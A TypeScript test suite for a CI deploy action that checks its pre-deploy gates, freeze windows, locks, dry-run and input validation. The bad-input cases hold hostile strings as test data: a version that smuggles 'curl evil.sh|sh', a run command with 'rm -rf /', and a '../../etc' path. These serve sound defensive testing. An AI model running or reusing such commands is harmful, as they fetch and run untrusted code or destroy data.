/**
 * deploy, bundled and run as the runner runs it, with the local ledger: every pre-deploy check
 * trips and nothing runs; bad input is one line naming the input and changes nothing.
 */
import { existsSync, readFileSync, writeFileSync, mkdirSync } from 'node:fs';
import { hostname } from 'node:os';
import path from 'node:path';
import { runAction, commandMessage, type ActionRun } from '../support/action.js';
import { deployWorkspace, gatesReport, ledger, ran, SHA } from './support.js';

// Without a token, production's `ci` and `approval` checks fail as unread (test/deploy/deploy-ci-approval.test.ts):
// these tests are about the other checks, so they are off here.
const BASE = { environment: 'staging', version: 'v1.0.0', run: './mark.sh run', 'rollback-run': './mark.sh rollback', 'freeze-windows': 'none', 'require-ci-green': 'false', 'require-approval': 'false' };

/** `clock`: the process's clock starts at this instant (an ISO time) and runs on. */
function deploy(ws: string, inputs: Record<string, string>, env: Record<string, string> = {}, clock?: string): Promise<ActionRun> {
  return runAction('deploy', { workspace: ws, inputs: { ...BASE, ...inputs }, env: { GITHUB_SHA: SHA, ...env }, clock });
}

/** Nothing ran and nothing was recorded. */
function nothingRan(ws: string): void {
  expect(ran(ws, 'run')).toBe(false);
  expect(ran(ws, 'rollback')).toBe(false);
  expect(ledger(ws).filter((e) => e.type === 'deployment')).toEqual([]);
}

function checkRow(run: ActionRun, title: string): string {
  return run.summary.split('\n').find((l) => l.startsWith(`| ${title} |`)) ?? '';
}

describe('deploy pre-deploy checks (ledger)', () => {
  it('deploys when every check passes, with the PHASE_GATES_* variables', async () => {
    const ws = deployWorkspace();
    const run = await deploy(ws, {});
    expect(run.code).toBe(0);
    expect(run.outputs).toMatchObject({ status: 'success', version: 'v1.0.0', 'previous-version': '', 'deployment-id': '1', 'rollback-performed': 'false', 'log-path': 'ci/deploy-logs.txt' });
    const vars = readFileSync(path.join(ws, 'ran/run'), 'utf8');
    // PHASE_GATES_OUTPUT is a fresh file per call, where a script may write url=….
    expect(vars).toMatch(/^PHASE_GATES_OUTPUT=\/.+\/output$/m);
    expect(vars.replace(/^PHASE_GATES_OUTPUT=.*\n/m, '')).toBe(
      [
        'PHASE_GATES_DEPLOYMENT_ID=1',
        'PHASE_GATES_ENVIRONMENT=staging',
        'PHASE_GATES_MODE=deploy',
        'PHASE_GATES_OTHER_SLOT=',
        'PHASE_GATES_PREVIOUS_VERSION=',
        'PHASE_GATES_SLOT=',
        'PHASE_GATES_STEP=deploy',
        'PHASE_GATES_STRATEGY=direct',
        'PHASE_GATES_TRAFFIC_PERCENT=100',
        'PHASE_GATES_VERSION=v1.0.0',
        ''
      ].join('\n')
    );
    expect(ledger(ws).map((e) => e.state ?? e.type)).toEqual(['deployment', 'in_progress', 'success']);
    expect(run.summary).toMatch(/\| Rollback path \| ➖ skip \| the first deployment of staging/);
    const log = readFileSync(path.join(ws, 'ci/deploy-logs.txt'), 'utf8').trim().split('\n');
    for (const line of log) expect(line).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z (INFO|WARN|ERROR) [a-z.-]+( [a-z_]+=\S.*)?$/);
    expect(log.at(-1)).toMatch(/ INFO deploy\.end status=success version=v1\.0\.0 deployment=1$/);
  });

  it('gates: refuses without a report where required, a failed report, and a report of another commit', async () => {
    let ws = deployWorkspace();
    let run = await deploy(ws, { 'require-gates': 'true' });
    expect(run.code).toBe(1);
    expect(checkRow(run, 'Gates passed')).toMatch(/❌ fail \| no gates report, required for staging/);
    nothingRan(ws);

    ws = deployWorkspace();
    run = await deploy(ws, { 'gates-report': JSON.stringify(gatesReport({ passed: false, gates: [{ name: 'coverage', op: '>=', threshold: 80, unit: '%', actual: 70, passed: false, sources: [] }] })) });
    expect(checkRow(run, 'Gates passed')).toMatch(/❌ fail \| the gates report failed: coverage/);
    nothingRan(ws);

    ws = deployWorkspace({ 'gates-report.json': JSON.stringify(gatesReport({ sha: 'f'.repeat(40) })) });
    run = await deploy(ws, { 'gates-report': 'gates-report.json' });
    expect(checkRow(run, 'Gates passed')).toMatch(/the report is for commit f{40}, not 0123/);
    expect(run.errors.map(commandMessage)).toEqual([expect.stringMatching(/^pre-deploy checks failed: gates/)]);
    nothingRan(ws);

    ws = deployWorkspace({ 'gates-report.json': JSON.stringify(gatesReport()) });
    run = await deploy(ws, { 'gates-report': 'gates-report.json', 'require-gates': 'true' });
    expect(run.code).toBe(0);
    expect(checkRow(run, 'Gates passed')).toMatch(/✅ pass \| passed for 0123456789ab \(gates-report.json\)/);
  });

  it('freeze: the clock is the machine\'s; no variable a workflow sets moves it (PHASE_GATES_NOW was one)', async () => {
    const prod = { environment: 'production', 'require-gates': 'false', 'require-staging': 'false', 'freeze-windows': '' };
    // A Wednesday, whatever a variable says: the deploy goes ahead.
    const ws = deployWorkspace();
    const run = await deploy(ws, prod, { PHASE_GATES_NOW: '2026-11-28T12:00:00Z' }, '2026-11-25T12:00:00Z');
    expect(checkRow(run, 'Outside freeze windows')).toMatch(/✅ pass \| Wed 2026-11-25 12:00 UTC is outside/);
    expect(readFileSync(path.join(ws, 'ci/deploy-logs.txt'), 'utf8')).not.toMatch(/ clock /);
  });

  it('freeze: by default production is refused over the weekend, staging is not; an override with a reason is recorded', async () => {
    const friday = '2026-11-27T15:00:00Z';
    // Production, freeze-windows not given: the default Fri 00:00-Mon 00:00 holds.
    const prod = { environment: 'production', 'require-gates': 'false', 'require-staging': 'false', 'freeze-windows': '' };
    let ws = deployWorkspace();
    let run = await deploy(ws, prod, {}, friday);
    expect(run.code).toBe(1);
    expect(checkRow(run, 'Outside freeze windows')).toMatch(/❌ fail \| Fri 2026-11-27 15:00 UTC is inside the freeze window "Fri 00:00-Mon 00:00", the default for production/);
    nothingRan(ws);
    // prod-eu counts as production too.
    ws = deployWorkspace();
    run = await deploy(ws, { ...prod, environment: 'prod-eu' }, {}, friday);
    expect(checkRow(run, 'Outside freeze windows')).toContain('❌ fail');
    nothingRan(ws);

    // Staging on the same Friday: no freeze by default, it deploys.
    ws = deployWorkspace();
    run = await deploy(ws, { 'freeze-windows': '' }, {}, friday);
    expect(run.code).toBe(0);
    expect(checkRow(run, 'Outside freeze windows')).toMatch(/➖ skip \| no freeze window for staging by default \(Fri 00:00-Mon 00:00 applies to production environments; set freeze-windows to freeze it too\)/);
    expect(ran(ws, 'run')).toBe(true);
    // Given, a window applies to staging as well.
    ws = deployWorkspace();
    run = await deploy(ws, { 'freeze-windows': 'Fri 00:00-Mon 00:00' }, {}, friday);
    expect(run.code).toBe(1);
    expect(checkRow(run, 'Outside freeze windows')).toMatch(/❌ fail \| .* is inside the freeze window "Fri 00:00-Mon 00:00" \(freeze-override/);
    nothingRan(ws);

    ws = deployWorkspace();
    run = await deploy(ws, { ...prod, 'freeze-override': 'hotfix INC-42, approved by @lead' }, {}, friday);
    expect(run.code).toBe(0);
    expect(run.warnings.map(commandMessage)).toEqual(['Deploying inside a freeze window; override: hotfix INC-42, approved by @lead']);
    const log = readFileSync(path.join(ws, 'ci/deploy-logs.txt'), 'utf8');
    expect(log).toMatch(/ WARN freeze\.override reason="hotfix INC-42, approved by @lead"/);

    // Another name marked production by the workflow: the production defaults hold (gates, staging first, the freeze).
    ws = deployWorkspace();
    run = await deploy(ws, { environment: 'live', production: 'true', 'freeze-windows': '' }, {}, friday);
    expect(run.code).toBe(1);
    const failed = run.summary.split('\n').filter((l) => l.includes('❌ fail')).map((l) => l.split(' | ')[0].slice(2));
    expect(failed).toEqual(['Gates passed', 'Outside freeze windows', 'Staging first']);
    expect(checkRow(run, 'Outside freeze windows')).toMatch(/"Fri 00:00-Mon 00:00", the default for production/);
    nothingRan(ws);
    // And a production-like name marked otherwise (a sandbox called prod-sandbox) deploys on a Friday.
    ws = deployWorkspace();
    run = await deploy(ws, { environment: 'prod-sandbox', production: 'false', 'freeze-windows': '' }, {}, friday);
    expect(run.code).toBe(0);
    expect(checkRow(run, 'Outside freeze windows')).toMatch(/➖ skip \| no freeze window for prod-sandbox by default/);
    expect(ran(ws, 'run')).toBe(true);

    // Dates in the zone of the timezone input: 23:30Z on the 23rd is the 24th in Berlin.
    ws = deployWorkspace();
    run = await deploy(ws, { 'freeze-windows': '2026-12-24..2026-12-26', timezone: 'Europe/Berlin' }, {}, '2026-12-23T23:30:00Z');
    expect(checkRow(run, 'Outside freeze windows')).toMatch(/❌ fail \| Thu 2026-12-24 00:30 Europe\/Berlin/);
    nothingRan(ws);
  });

  it('staging first: production needs a successful staging deployment of the same version', async () => {
    const ws = deployWorkspace();
    let run = await deploy(ws, { environment: 'production' });
    expect(run.code).toBe(1);
    expect(checkRow(run, 'Staging first')).toMatch(/❌ fail \| v1\.0\.0 has no successful deployment in staging \(ledger\)/);
    nothingRan(ws);

    expect((await deploy(ws, { environment: 'staging' })).code).toBe(0);
    run = await deploy(ws, { environment: 'production', 'require-gates': 'false' });
    expect(checkRow(run, 'Staging first')).toMatch(/✅ pass \| v1\.0\.0 succeeded in staging \(deployment 1\)/);
    expect(run.code).toBe(0);
  });

  it('immutable version: refuses latest and branch names', async () => {
    for (const version of ['latest', 'feature/login']) {
      const ws = deployWorkspace();
      const run = await deploy(ws, { version });
      expect(run.code).toBe(1);
      expect(checkRow(run, 'Immutable version')).toContain('❌ fail');
      nothingRan(ws);
    }
  });

  it('secrets: refuses a required secret that is unset or empty', async () => {
    const ws = deployWorkspace();
    const run = await deploy(ws, { 'required-secrets': 'DEPLOY_TOKEN, DB_PASSWORD' }, { DEPLOY_TOKEN: 'x-token-value', DB_PASSWORD: '' });
    expect(run.code).toBe(1);
    expect(checkRow(run, 'Required secrets')).toMatch(/❌ fail \| not set or empty: DB_PASSWORD \|/);
    nothingRan(ws);
  });

  it('region: refuses a region outside allowed-regions', async () => {
    const ws = deployWorkspace();
    const run = await deploy(ws, { region: 'us-east-1', 'allowed-regions': 'eu-west-1, eu-central-1' });
    expect(run.code).toBe(1);
    expect(checkRow(run, 'Region allowed')).toMatch(/❌ fail \| us-east-1 is not in allowed-regions \(eu-west-1, eu-central-1\)/);
    nothingRan(ws);
  });

  it('rollback path: a first deploy has none, and goes ahead without one', async () => {
    for (const rollbackRun of ['', './mark.sh rollback']) {
      const ws = deployWorkspace();
      const run = await deploy(ws, { 'rollback-run': rollbackRun });
      expect(run.code).toBe(0);
      expect(checkRow(run, 'Rollback path')).toMatch(/➖ skip \| the first deployment of staging: no earlier successful deployment of staging, so a failure would not be rolled back/);
      expect(run.summary).toContain('3. on failure: no rollback (no earlier successful deployment of staging)');
    }
  });

  it('lock: refuses while another deploy of the environment holds its lock', async () => {
    const ws = deployWorkspace();
    mkdirSync(path.join(ws, '.phase-gates/locks'), { recursive: true });
    const now = new Date().toISOString();
    // A live process of this machine (this test's) holds staging's lock, deploying v0.9.0.
    writeFileSync(path.join(ws, '.phase-gates/locks/staging.lock'), JSON.stringify({ pid: process.pid, host: hostname(), environment: 'staging', version: 'v0.9.0', since: now }) + '\n');
    writeFileSync(
      path.join(ws, '.phase-gates/deployments.jsonl'),
      [
        { type: 'deployment', id: '7', environment: 'staging', version: 'v0.9.0', sha: SHA, description: '', production: false, createdAt: now, pid: process.pid },
        { type: 'status', deployment: '7', state: 'in_progress', description: '', createdAt: now, pid: process.pid }
      ]
        .map((e) => JSON.stringify(e))
        .join('\n') + '\n'
    );
    const run = await deploy(ws, {});
    expect(run.code).toBe(1);
    expect(checkRow(run, 'No deployment in progress')).toContain(`❌ fail | a deploy of v0.9.0 to staging holds the lock since ${now} (process ${process.pid} on ${hostname()})`);
    expect(ran(ws, 'run')).toBe(false);
    expect(ledger(ws)).toHaveLength(2);
  });

  it('reports every failed check at once, in one table', async () => {
    const ws = deployWorkspace();
    const run = await deploy(ws, { environment: 'production', version: 'latest', 'freeze-windows': '', region: 'mars', 'allowed-regions': 'eu', 'rollback-run': '' }, {}, '2026-11-28T12:00:00Z');
    expect(run.code).toBe(1);
    const failed = run.summary.split('\n').filter((l) => l.includes('❌ fail')).map((l) => l.split(' | ')[0].slice(2));
    expect(failed).toEqual(['Gates passed', 'Outside freeze windows', 'Staging first', 'Immutable version', 'Region allowed', 'Change log']);
    expect(run.outputs.status).toBe('failure');
    expect(JSON.parse(run.outputs['failed-checks'])).toEqual([
      { id: 'gates', detail: expect.stringMatching(/^no gates report/) },
      { id: 'freeze', detail: expect.stringMatching(/^Sat 2026-11-28 12:00 UTC/) },
      { id: 'staging', detail: expect.stringMatching(/^latest has no successful deployment/) },
      { id: 'version', detail: expect.stringMatching(/^latest: /) },
      { id: 'region', detail: 'mars is not in allowed-regions (eu)' },
      { id: 'changelog', detail: expect.stringMatching(/^CHANGELOG\.md has no entry for latest/) }
    ]);
    nothingRan(ws);
  });

  it('dry-run prints the plan and changes nothing', async () => {
    const ws = deployWorkspace();
    const run = await deploy(ws, { 'dry-run': 'true', 'migrate-run': './mark.sh migrate' });
    expect(run.code).toBe(0);
    expect(run.outputs).toMatchObject({ status: 'skipped', 'failed-checks': '[]' });
    expect(run.summary).toContain('### Plan (dry run: nothing was changed)');
    expect(run.summary).toContain('✅ Deploying `v1.0.0` to `staging` (strategy `direct`, provider `command`; its first deployment) would go ahead: every check passed.');
    expect(run.summary).toContain('**Status:** `skipped` — dry run: nothing was changed');
    expect(run.summary).toContain('2. migrations: `./mark.sh migrate`');
    expect(run.summary).toContain('3. direct: deploy, all traffic: `./mark.sh run`');
    expect(run.warnings).toEqual([]);
    nothingRan(ws);
    expect(ran(ws, 'migrate')).toBe(false);
  });

  it('dry-run reports every check that would fail, the freeze included, and still ends well with the plan', async () => {
    const ws = deployWorkspace();
    // Production on a Saturday, not in staging, no gates report: three checks would refuse it.
    const run = await deploy(ws, { environment: 'production', 'freeze-windows': '', strategy: 'blue-green', 'dry-run': 'true' }, {}, '2026-11-28T12:00:00Z');
    expect(run.code).toBe(0);
    expect(run.errors).toEqual([]);
    expect(run.outputs).toMatchObject({ status: 'skipped', 'rollback-performed': 'false', version: 'v1.0.0' });
    expect(run.outputs['deployment-id'] ?? '').toBe('');
    expect(JSON.parse(run.outputs['failed-checks']).map((c: { id: string }) => c.id)).toEqual(['gates', 'freeze', 'staging']);
    const failed = run.summary.split('\n').filter((l) => l.includes('❌ fail')).map((l) => l.split(' | ')[0].slice(2));
    expect(failed).toEqual(['Gates passed', 'Outside freeze windows', 'Staging first']);
    expect(checkRow(run, 'Outside freeze windows')).toMatch(/Sat 2026-11-28 12:00 UTC is inside the freeze window "Fri 00:00-Mon 00:00", the default for production/);
    expect(run.summary).toMatch(/❌ Deploying `v1\.0\.0` to `production` \(strategy `blue-green`, provider `command`; its first deployment\) would be refused: 3 checks would fail: gates \(no gates report, required for production .*\); freeze \(Sat 2026-11-28 12:00 UTC .*\); staging \(v1\.0\.0 has no successful deployment in staging \(ledger\)\)\./);
    expect(run.summary).toContain('2. blue-green: deploy to slot blue, 0% of traffic: `./mark.sh run`; verify the slot');
    // One warning line says it all, as the log does.
    expect(run.warnings.map(commandMessage)).toEqual([expect.stringMatching(/^dry run: deploying v1\.0\.0 to production \(strategy blue-green, provider command; its first deployment\) would be refused: 3 checks would fail: gates .*; freeze .*; staging .*; nothing was changed$/)]);
    // Said once on the step's log.
    expect((run.stdout.match(/would be refused/g) ?? []).length).toBe(1);
    const log = readFileSync(path.join(ws, 'ci/deploy-logs.txt'), 'utf8');
    expect(log).toMatch(/ WARN dry-run version=v1\.0\.0 environment=production strategy=blue-green would_fail=gates,freeze,staging detail="nothing was changed"$/m);
    nothingRan(ws);
  });
});

describe('deploy bad input', () => {
  const cases: Array<[string, Record<string, string>, RegExp]> = [
    ['a missing run', { run: '' }, /^run: required for provider command and not supplied/],
    ['bad freeze syntax', { 'freeze-windows': 'Fri 25:00-Mon 00:00' }, /^freeze-windows: not a freeze window: "Fri 25:00-Mon 00:00"/],
    ['production that is not a boolean', { production: 'yes please' }, /^production: /],
    ['an unknown time zone', { timezone: 'Mars/Olympus_Mons' }, /^timezone: unknown time zone "Mars\/Olympus_Mons"/],
    ['a malformed gates report', { 'gates-report': '{"schema": "phase-gates/gates-report@1", ' }, /^gates-report: not JSON/],
    ['a foreign gates report', { 'gates-report': JSON.stringify({ schema: 'phase-gates/smoke-report@1', passed: true }) }, /^gates-report: not a phase-gates gates report \(a "phase-gates\/smoke-report@1" document\)/],
    ['a gates report file that is SARIF', { 'gates-report': 'report.sarif' }, /^gates-report: report\.sarif: not a phase-gates gates report/],
    ['a version with shell metacharacters', { version: 'v1.0.0;curl evil.sh|sh' }, /^version: holds the character ";", which a shell would interpret/],
    ['a log path outside the workspace', { 'log-path': '../deploy-logs.txt' }, /^log-path: path escapes the workspace: \.\.\/deploy-logs\.txt/],
    ['shell syntax in run', { run: './mark.sh && rm -rf /' }, /^run: shell syntax "&" is not supported/],
    ['a script that does not exist', { run: './nope.sh' }, /^run: \.\/nope\.sh: no such file/],
    ['an environment name that is a path out', { environment: '../../etc' }, /^environment: not an environment name: "\.\.\/\.\.\/etc" \(letters, digits/],
    ['an environment name with an empty part', { environment: 'prod//eu' }, /^environment: not an environment name: "prod\/\/eu"/],
    ['a canary with no URL to verify its steps on', { strategy: 'canary', 'canary-steps': '10,100' }, /^strategy: canary needs a URL to verify each step on: set environment-url \(or provider-options slot-urls\)$/]
  ];
  it.each(cases)('%s: one line naming the input, nothing changed', async (_name, inputs, message) => {
    const ws = deployWorkspace({ 'report.sarif': JSON.stringify({ version: '2.1.0', runs: [] }) });
    const run = await deploy(ws, inputs);
    expect(run.code).toBe(1);
    expect(run.errors.map(commandMessage)).toEqual([expect.stringMatching(message)]);
    expect(run.stdout + run.stderr).not.toMatch(/\n\s+at /);
    expect(existsSync(path.join(ws, 'ci'))).toBe(false);
    expect(existsSync(path.join(ws, '.phase-gates'))).toBe(false);
    nothingRan(ws);
  });
});
